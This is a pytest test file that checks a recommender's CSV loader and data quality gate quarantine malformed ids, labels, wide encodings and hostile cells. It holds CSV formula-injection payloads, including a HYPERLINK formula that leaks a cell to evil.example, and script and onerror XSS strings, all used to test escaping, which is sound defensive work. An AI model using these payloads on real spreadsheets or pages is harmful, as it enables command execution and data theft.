"""Hostile input to the loader and the data gate (issue #10): nothing is silently changed.

The gate's promise is "quarantine with a reason, never repair". Each test writes a real CSV to
``tmp_path`` (the committed Home Depot fixture plus the hostile rows it is about), reads it with
the real loader and runs the real GX suites, then checks the two invariants on the outcome:

* rows in == clean + quarantined, and every input row is in exactly one of them;
* every clean row holds exactly what the file said (ids print back to the same digits, text is
  the same string, the label is the number written), in memory and in ``clean.csv``.
"""

from __future__ import annotations

import csv
import html.parser
import json
import re
import subprocess
from pathlib import Path

import pandas as pd
import pytest

from recsys.cli import EXIT_BAD_INPUT, main
from recsys.data import (
    ID_TOO_LARGE,
    NOT_A_LABEL,
    NOT_AN_ID,
    READ_REJECTS,
    DataFormatError,
    frame_fingerprint,
    read_relevance_csv,
)
from recsys.families.search.pipeline import read_split_frame, split_data, validate_data
from recsys.quality import QualityReport, validate_frame

FIXTURE = Path(__file__).resolve().parent / "fixtures" / "homedepot_sample.csv"
SUITES = ("products", "queries", "relevance_labels")
HEADER = ["id", "product_uid", "product_title", "search_term", "relevance"]
FORMULA_CHECK = "queries:expect_column_values_to_not_match_regex(search_term)"


def _fixture_rows() -> list[list[str]]:
    with FIXTURE.open(encoding="latin-1", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == HEADER
    return rows[1:]


def _write(path: Path, rows: list[list[str]], encoding: str = "utf-8") -> Path:
    with path.open("w", encoding=encoding, newline="") as handle:
        csv.writer(handle).writerows([HEADER, *rows])
    return path


def _raw_rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def _row(n: int, **cells: str) -> list[str]:
    """A plausible new row ``n`` (its own id and product), with ``cells`` replaced."""
    values = {
        "id": str(900_000 + n),
        "product_uid": str(800_000 + n),
        "product_title": f"Hardening test product {n}",
        "search_term": f"hardening query {n % 3}",
        "relevance": "2.33",
    }
    return [{**values, **cells}[column] for column in HEADER]


def _assert_nothing_changed(report: QualityReport, raw: list[dict[str, str]]) -> None:
    """Every row is clean xor quarantined, and a clean row is exactly its input row."""
    clean, quarantined = report.clean, report.quarantined
    assert len(clean) + len(quarantined) == len(raw)
    assert sorted([*clean.index, *quarantined.index]) == list(range(len(raw)))
    for label, row in clean.iterrows():
        want = raw[label]
        for column in ("id", "product_uid", "product_title", "search_term"):
            assert str(row[column]) == want[column], (label, column)
        assert re.fullmatch(r"[0-9]+(\.[0-9]*)?|\.[0-9]+", want["relevance"]), want
        assert row["relevance"] == float(want["relevance"])
    written = _raw_rows(report.report_dir / "clean.csv")
    assert len(written) == len(clean)
    for label, row in zip(clean.index, written, strict=True):
        for column in ("id", "product_uid", "product_title", "search_term"):
            assert row[column] == raw[label][column], (label, column)  # no quote, no escape
        assert float(row["relevance"]) == float(raw[label]["relevance"])


def _no_crashed_check(report: QualityReport) -> None:
    """No GX expectation raised (mixed types would make range/set checks crash)."""
    for outcome in report.outcomes:
        for message in outcome.critical_failures + outcome.warnings:
            assert "error:" not in message, message


# -- ids and labels ---------------------------------------------------------------------------

BAD_IDS = [
    ("1.5", NOT_AN_ID),
    ("100001.7", NOT_AN_ID),
    ("9" * 30, ID_TOO_LARGE),
    ("9223372036854775808", ID_TOO_LARGE),
    ("-7", NOT_AN_ID),
    ("+7", NOT_AN_ID),
    ("007", NOT_AN_ID),  # would print back as 7: another string, so another id downstream
    (" 7", NOT_AN_ID),
    ("7 ", NOT_AN_ID),
    ("1e3", NOT_AN_ID),
    ("1_000", NOT_AN_ID),  # int() accepts it
    ("0x1F", NOT_AN_ID),
    ("\u0663", NOT_AN_ID),  # Arabic-Indic 3: int() and str.isdigit() accept it
    ("１２", NOT_AN_ID),  # full-width digits
    ("nan", NOT_AN_ID),
    ("abc", NOT_AN_ID),
]
BAD_LABELS = [
    "2.5abc",
    "inf",
    "-inf",
    "nan",
    "NaN",
    "1e0",
    " 2",
    "2 ",
    "+2",
    "-1",
    "2,5",
    "9" * 400,
]


@pytest.mark.parametrize(("raw", "problem"), BAD_IDS)
@pytest.mark.parametrize("column", ["id", "product_uid"])
def test_an_id_that_is_not_a_plain_int64_is_recorded_not_cast(tmp_path, column, raw, problem):
    path = _write(tmp_path / "ids.csv", [_row(1), _row(2, **{column: raw})])
    frame = read_relevance_csv(path)
    assert frame[column].tolist()[0] == int(_row(1)[HEADER.index(column)])
    assert pd.isna(frame[column].iloc[1])  # never 1, 100001, 7 or -9223372036854775808
    assert frame.attrs[READ_REJECTS] == {1: {column: [problem, raw]}}


@pytest.mark.parametrize("raw", BAD_LABELS)
def test_a_label_that_is_not_a_plain_finite_number_is_recorded(tmp_path, raw):
    frame = read_relevance_csv(_write(tmp_path / "labels.csv", [_row(1), _row(2, relevance=raw)]))
    assert frame["relevance"].dtype == "float64"
    assert frame["relevance"].iloc[0] == 2.33 and pd.isna(frame["relevance"].iloc[1])
    assert frame.attrs[READ_REJECTS] == {1: {"relevance": [NOT_A_LABEL, raw]}}


def test_rejected_cells_change_the_fingerprint(tmp_path):
    first = read_relevance_csv(_write(tmp_path / "a.csv", [_row(1), _row(2, relevance="2.5abc")]))
    second = read_relevance_csv(_write(tmp_path / "b.csv", [_row(1), _row(2, relevance="2.5x")]))
    pd.testing.assert_frame_equal(first, second)  # both cells are missing in the frame
    assert frame_fingerprint(first) != frame_fingerprint(second)
    assert frame_fingerprint(first) == frame_fingerprint(first.copy())


def test_edge_values_that_are_valid_stay_exact_and_text_is_never_a_null(tmp_path):
    rows = [
        _row(1, id="0", product_uid="9223372036854775807", relevance="3"),
        _row(2, relevance="1.", search_term="NA"),
        _row(3, relevance=".5", search_term="null", product_title="None"),
        _row(4, id="", relevance=""),  # empty cells: missing, for the not_null checks
    ]
    frame = read_relevance_csv(_write(tmp_path / "edge.csv", rows))
    assert frame.attrs[READ_REJECTS] == {}
    assert frame["id"].tolist()[:3] == [0, 900002, 900003] and pd.isna(frame["id"].iloc[3])
    assert frame["product_uid"].iloc[0] == 2**63 - 1
    assert frame["relevance"].tolist()[:3] == [3.0, 1.0, 0.5]
    assert frame["search_term"].tolist()[1:3] == ["NA", "null"]
    assert frame["product_title"].iloc[2] == "None"


def test_a_fractional_and_a_blank_id_are_read_not_crashed_on(tmp_path):
    path = _write(tmp_path / "ids.csv", [_row(1, id="1.5"), _row(2, id=""), _row(3)])
    frame = read_relevance_csv(path)  # used to raise TypeError from astype("Int64")
    assert str(frame["id"].dtype) == "Int64"
    assert frame["id"].isna().tolist() == [True, True, False]
    assert frame.attrs[READ_REJECTS] == {0: {"id": [NOT_AN_ID, "1.5"]}}


def test_hostile_rows_are_quarantined_one_by_one_with_the_raw_value(tmp_path):
    hostile = [
        _row(1, id="1.5"),
        _row(2, product_uid="100001.7"),
        _row(3, id="9" * 30),
        _row(4, id=""),  # blank: a missing id, reported by GX's not_null check
        _row(5, relevance="2.5abc"),
        _row(6, product_uid="007", relevance="inf"),
        _row(7, relevance="7"),  # a number out of the schema's range: GX's range check
        _row(8, id="9223372036854775807"),  # the largest int64: valid, stays clean
    ]
    path = _write(tmp_path / "hostile.csv", _fixture_rows() + hostile)
    raw = _raw_rows(path)

    report = validate_frame(
        read_relevance_csv(path), SUITES, tmp_path / "q", raise_on_failure=False
    )

    _assert_nothing_changed(report, raw)
    _no_crashed_check(report)
    reasons = report.quarantined["quarantine_reasons"]
    assert len(report.quarantined) == 7 and 567 in report.clean.index
    read = "read:{}({}): {!r}"
    assert reasons[560] == read.format("id", NOT_AN_ID, "1.5")
    assert reasons[561] == read.format("product_uid", NOT_AN_ID, "100001.7")
    assert reasons[562] == read.format("id", ID_TOO_LARGE, "9" * 30)
    assert reasons[563] == "queries:expect_column_values_to_not_be_null(id)"
    assert reasons[564] == read.format("relevance", NOT_A_LABEL, "2.5abc")
    assert reasons[565] == "; ".join(
        [read.format("product_uid", NOT_AN_ID, "007"), read.format("relevance", NOT_A_LABEL, "inf")]
    )
    assert "relevance_labels:expect_column_values_to_be_between(relevance)" in reasons[566]
    # the quarantined frame shows what the file said, not the missing stand-in
    assert report.quarantined.loc[560, "id"] == "1.5"
    assert report.quarantined.loc[565, "relevance"] == "inf"
    written = {row["row"]: row for row in _raw_rows(report.report_dir / "quarantine.csv")}
    assert written["562"]["id"] == "9" * 30 and written["561"]["product_uid"] == "100001.7"

    # 3 of 568 ids missing or unreadable is inside the 1% not_null budget: quarantined only;
    # nullable Int64 ids (the rejected cells are missing) pass the suites' type checks
    assert report.success, _criticals(report)
    summary = json.loads((report.report_dir / "summary.json").read_text())
    assert summary["rows"] == {"input": 568, "clean": 561, "quarantined": 7}
    assert summary["quarantine_reasons"][f"read:id({NOT_AN_ID})"] == 1
    assert summary["quarantine_reasons"][f"read:relevance({NOT_A_LABEL})"] == 2
    assert "2.5abc" not in json.dumps(summary)  # counts only: no row data in XCom/MLflow


def _criticals(report: QualityReport) -> list[str]:
    return [m for outcome in report.outcomes for m in outcome.critical_failures]


def _thousand_rows() -> list[list[str]]:
    """1,000 valid rows: the fixture and 440 of its rows again under new ids and products."""
    rows = _fixture_rows()
    again = [[str(int(r[0]) + 10**7), str(int(r[1]) + 10**7), *r[2:]] for r in rows[:440]]
    return rows + again


def test_one_garbled_label_in_a_thousand_quarantines_one_row_with_its_reason(tmp_path, capsys):
    rows = _thousand_rows()
    rows[123][4] = "2.5abc"
    path = _write(tmp_path / "shop.csv", rows)

    report = validate_frame(read_relevance_csv(path), SUITES, tmp_path / "q")

    assert report.success  # used to quarantine all 1,000 rows and fail two crashed checks
    _no_crashed_check(report)
    assert report.quarantined.index.tolist() == [123]
    assert report.quarantined["quarantine_reasons"].tolist() == [
        f"read:relevance({NOT_A_LABEL}): '2.5abc'"
    ]
    _assert_nothing_changed(report, _raw_rows(path))

    # the CLI and the pipeline task get the same verdict
    assert main(["data", "validate", str(path), "--out", str(tmp_path / "cli")]) == 0
    out = capsys.readouterr().out
    assert "rows in 1000, clean 999, quarantined 1" in out
    assert f"quarantined     1: read:relevance({NOT_A_LABEL})" in out
    result = validate_data(str(path), tmp_path / "run")
    assert result["rows"] == 1000 and result["quality"]["rows"]["quarantined"] == 1
    assert len(pd.read_csv(result["clean_path"])) == 999


def test_unreadable_ids_beyond_the_budget_stop_the_run(tmp_path):
    rows = _thousand_rows()
    for row in rows[:20]:
        row[0] = row[0] + ".0"  # 2% of the ids: a broken export, not a stray row
    path = _write(tmp_path / "shop.csv", rows)

    report = validate_frame(
        read_relevance_csv(path), SUITES, tmp_path / "q", raise_on_failure=False
    )

    assert not report.success
    _no_crashed_check(report)
    [critical] = _criticals(report)
    assert critical.startswith("expect_column_values_to_not_be_null(id): 20 of 1000 rows")
    assert report.quarantined.index.tolist() == list(range(20))
    assert report.reason_counts == {f"read:id({NOT_AN_ID})": 20}
    _assert_nothing_changed(report, _raw_rows(path))


def test_a_slice_of_the_loaded_frame_keeps_only_its_own_rejections(tmp_path):
    rows = _thousand_rows()
    rows[999][0] = "1.5"  # outside the slice
    rows[5][4] = "abc"
    frame = read_relevance_csv(_write(tmp_path / "shop.csv", rows))
    report = validate_frame(frame.head(900), SUITES, tmp_path / "q")  # pipeline's max_rows
    assert report.quarantined.index.tolist() == [5]
    assert len(report.clean) == 899


def test_words_that_pandas_reads_as_null_reach_the_training_split_as_text(tmp_path):
    rows = _fixture_rows()
    words = ["NA", "null", "None", "nan", "N/A", "#N/A"]  # pandas' default NA markers
    for row, word in zip(rows[:48:8], words, strict=True):
        row[3] = word  # six rows become one-row queries named like a null
    path = _write(tmp_path / "words.csv", rows)

    result = validate_data(str(path), tmp_path / "run")

    assert result["quality"]["rows"]["quarantined"] == 0
    split = split_data(result["clean_path"], tmp_path / "run", test_fraction=0.2, seed=13)
    terms = set()
    for name in ("train", "test"):
        frame = read_split_frame(split[f"{name}_path"])
        assert frame["search_term"].notna().all()
        terms |= set(frame["search_term"])
    assert set(words) <= terms


# -- spreadsheet formulas and HTML ------------------------------------------------------------

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]


def test_formulas_are_quarantined_and_human_exports_neutralised(tmp_path):
    legit = ["-20 degree freezer", "+ size rug", "@home pillows"]
    hostile = [_row(i, search_term=term) for i, term in enumerate(FORMULAS)]
    hostile += [_row(10 + i, search_term=term) for i, term in enumerate(legit)]
    hostile.append(_row(20, id="x1", search_term="-5 degree freezer"))  # quarantined: bad id
    path = _write(tmp_path / "formulas.csv", _fixture_rows() + hostile)
    raw = _raw_rows(path)

    report = validate_frame(read_relevance_csv(path), SUITES, tmp_path / "q")

    assert report.success  # 5 in 569 is inside the 1% budget: quarantined, not fatal
    _assert_nothing_changed(report, raw)
    formula_rows = list(range(560, 565))
    assert report.quarantined.index.tolist() == [*formula_rows, 568]
    for row in formula_rows:
        assert report.quarantined.loc[row, "quarantine_reasons"] == FORMULA_CHECK
        assert report.quarantined.loc[row, "search_term"] == raw[row]["search_term"]  # in memory
    # a leading '-', '+' or '@' that is not a formula is a search term like any other: kept as is
    assert report.clean.loc[565:567, "search_term"].tolist() == legit
    clean_terms = {row["search_term"] for row in _raw_rows(report.report_dir / "clean.csv")}
    assert set(legit) <= clean_terms

    # quarantine.csv is for people: a spreadsheet shows every risky cell as text
    written = {int(row["row"]): row for row in _raw_rows(report.report_dir / "quarantine.csv")}
    for row in formula_rows:
        assert written[row]["search_term"] == "'" + raw[row]["search_term"]
    assert written[568]["search_term"] == "'-5 degree freezer"
    assert written[568]["id"] == "x1"
    for row in written.values():
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


class _LiveMarkup(html.parser.HTMLParser):
    """Collects injected markup a browser would run: a tag carrying one of the payloads'
    handlers or ``alert(`` in an attribute, and ``alert(`` inside a script (GX's own pages
    have scripts, images and onclick buttons, none of them with ``alert(``)."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        self._in_script = tag == "script"
        for name, value in attrs:
            if name in {"onerror", "onload"} or "alert(" in (value or ""):
                self.found.append(f"<{tag} {name}={value!r}>")

    def handle_endtag(self, tag):
        self._in_script = False

    def handle_data(self, data):
        if self._in_script and "alert(" in data:
            self.found.append(f"<script>{data[:40]}")


def test_quarantined_values_are_escaped_in_the_data_docs(tmp_path):
    script = "<script>alert(1)</script>"
    image = "<img src=x onerror=alert(2)>" + "x" * 200  # too long: quarantined, rendered
    rows = [
        *_fixture_rows(),
        _row(1, search_term=script, product_uid="555"),  # duplicate pair with the next row
        _row(2, search_term=script, product_uid="555"),
        _row(3, search_term=image),
        _row(4, search_term='"><svg onload=alert(3)>', id="1.5"),
    ]
    path = _write(tmp_path / "xss.csv", rows)

    report = validate_frame(read_relevance_csv(path), SUITES, tmp_path / "q")

    assert report.quarantined.index.tolist() == [560, 561, 562, 563]
    pages = list((tmp_path / "q" / "docs").rglob("*.html"))
    assert len(pages) >= 4
    text = "\n".join(page.read_text(encoding="utf-8") for page in pages)
    for page in pages:
        parser = _LiveMarkup()
        parser.feed(page.read_text(encoding="utf-8"))
        assert parser.found == [], (page, parser.found)
    # the values are shown, as text, not dropped from the report
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text
    assert "&lt;img src=x onerror=alert(2)&gt;" in text
    # the gate's own outputs keep the real values
    assert report.quarantined.loc[560, "search_term"] == script


# -- encodings --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("encoding", "iconv_name", "described"),
    [
        ("utf-16", "UTF-16", "UTF-16 (little-endian, with a byte-order mark)"),
        ("utf-16-le", "UTF-16LE", "UTF-16 (little-endian, no byte-order mark)"),
        ("utf-16-be", "UTF-16BE", "UTF-16 (big-endian, no byte-order mark)"),
        ("utf-32", "UTF-32", "UTF-32 (little-endian, with a byte-order mark)"),
    ],
)
def test_a_wide_unicode_file_is_refused_with_the_command_that_converts_it(
    tmp_path, encoding, iconv_name, described
):
    path = _write(tmp_path / "export.csv", _fixture_rows(), encoding=encoding)
    with pytest.raises(DataFormatError) as info:
        read_relevance_csv(path)
    message = str(info.value)
    assert f"{path} is encoded as {described}, not UTF-8" in message
    assert "Expected" not in message and "fields in line" not in message
    command = re.search(r"iconv -f (\S+) -t UTF-8 (\S+) > (\S+)", message)
    assert command and command.group(1) == iconv_name
    # the command in the message works: run it and read the result
    subprocess.run(["bash", "-c", command.group(0)], check=True, timeout=30)
    converted = read_relevance_csv(command.group(3))
    assert len(converted) == 560 and converted.attrs[READ_REJECTS] == {}


def test_the_encoding_error_reaches_cli_and_pipeline_intact(tmp_path, capsys):
    path = _write(tmp_path / "export.csv", _fixture_rows(), encoding="utf-16")
    assert main(["data", "validate", str(path), "--out", str(tmp_path / "q")]) == EXIT_BAD_INPUT
    err = capsys.readouterr().err
    assert err.startswith("recsys data validate: DataFormatError: ")
    assert "is encoded as UTF-16" in err and "iconv -f UTF-16 -t UTF-8" in err
    assert "Traceback" not in err and err.count("\n") == 1
    with pytest.raises(DataFormatError, match=r"UTF-16.*iconv -f UTF-16 -t UTF-8"):
        validate_data(str(path), tmp_path / "run")
    assert not (tmp_path / "q").exists()  # refused before any report was written


def test_latin1_and_utf8_with_bom_still_load(tmp_path):
    rows = _fixture_rows()
    latin1 = read_relevance_csv(FIXTURE)
    with_bom = read_relevance_csv(_write(tmp_path / "bom.csv", rows, encoding="utf-8-sig"))
    assert list(with_bom.columns) == HEADER
    pd.testing.assert_frame_equal(with_bom, latin1)
